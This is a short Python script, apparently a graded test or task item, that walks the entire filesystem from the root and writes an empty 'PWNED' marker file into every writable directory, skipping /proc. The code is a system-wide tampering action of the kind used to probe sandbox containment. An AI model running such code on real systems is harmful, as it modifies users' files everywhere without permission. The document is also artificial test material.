# Write in every folder there is.
# ends: graded
# %%
import os

for top, _, _ in os.walk("/"):
    if top.startswith("/proc"):
        continue
    try:
        open(os.path.join(top, "PWNED"), "w").close()
    except OSError:
        pass
